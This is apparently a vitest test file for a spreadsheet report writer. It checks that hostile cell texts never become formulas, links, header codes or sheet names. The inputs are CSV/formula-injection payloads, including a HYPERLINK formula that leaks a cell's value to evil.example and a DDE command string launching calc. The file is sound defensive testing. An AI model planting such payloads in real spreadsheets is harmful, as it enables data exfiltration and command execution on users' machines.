import { describe, expect, it } from "vitest";
import { translator } from "../../src/i18n";
import { reportData, reportPlan } from "../../src/report";
import { writeXlsx } from "../../src/writers/xlsx";
import { readPart } from "../oracle/editPackage";
import { lintXlsx } from "../oracle/lint/lintXlsx";
import { openWorkbook, readCells } from "../oracle/readCells";
import { factsOf, type LedgerRow, type OrderRow } from "./facts";

/** What spreadsheets have taken for formulas, and what breaks headers, names or markup. */
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"evil")',
  "+evil|' /C calc'!A0",
  "-2+evil",
  "@SUM(evil)",
  "\t=evil()",
  "\n=evil()",
  "&Aevil&P]]>",
  "[evil]'!*?:/\\",
  "＝evil()",
];
const longest = `evil ${"長".repeat(32_762)}`;

function reportOf(texts: readonly string[], subject: string) {
  const orders = texts.flatMap((text, i): OrderRow[] => [
    ["1", `2025-01-${String(i + 1).padStart(2, "0")}`, text, 10 + i, text],
    ["2", `2025-02-${String(i + 1).padStart(2, "0")}`, text, 5, text],
  ]);
  const ledger = texts.map((text): LedgerRow => ["2025-01-31", text, text, 3]);
  const facts = factsOf(orders, ledger);
  const record = { role: "orders", rowsSeen: 18, rowsRead: 18, rowsUnassigned: 0, exclusions: [] } as const;
  const recognition = { headerRow: 0, columns: [], missing: [] };
  const amount = facts.orders.amount.reduce((sum, one) => sum + one, 0);
  const sources = texts.map((name, i) => ({ ...record, name, recognition, amount: i === 0 ? amount : 0 }));
  return reportPlan(reportData({ facts, sources, settings: { subject, unit: subject.slice(0, 5) } }), translator("en"));
}

describe.each(hostile)("a text such as %j in every place of a report", (text) => {
  const plan = reportOf([...hostile, text + "!"], text);
  const file = writeXlsx(plan);

  it("never becomes a formula, a link or markup", async () => {
    expect(lintXlsx(file)).toEqual([]);
    const cells = [...(await readCells(file)).values()];
    expect(
      cells.filter(({ formula }) => formula !== undefined && /evil/.test(formula.replace(/"[^"]*"/g, ""))),
    ).toEqual([]);
    const values = cells.map(({ value }) => value);
    for (const one of hostile) expect(values.filter((value) => value === one).length).toBeGreaterThan(0);
  });

  it("is no code of the page header, nor part of a sheet's name", async () => {
    const workbook = await openWorkbook(file);
    for (const sheet of workbook.worksheets) {
      expect(sheet.name).not.toMatch(/evil/);
      expect(sheet.headerFooter.oddHeader ?? "").not.toMatch(/(?<!&)(?:&&)*&Aevil/);
    }
    expect(readPart(file, "xl/workbook.xml")).not.toContain("evil.example");
  });
});

it("takes a name of 32,767 characters, as long as a cell can be", async () => {
  const file = writeXlsx(reportOf([longest, "B"], "Firm"));
  expect(lintXlsx(file)).toEqual([]);
  const values = [...(await readCells(file)).values()].map(({ value }) => value);
  expect(values).toContain(longest);
  expect(values.every((value) => typeof value !== "string" || value.length <= 32_767)).toBe(true);
});
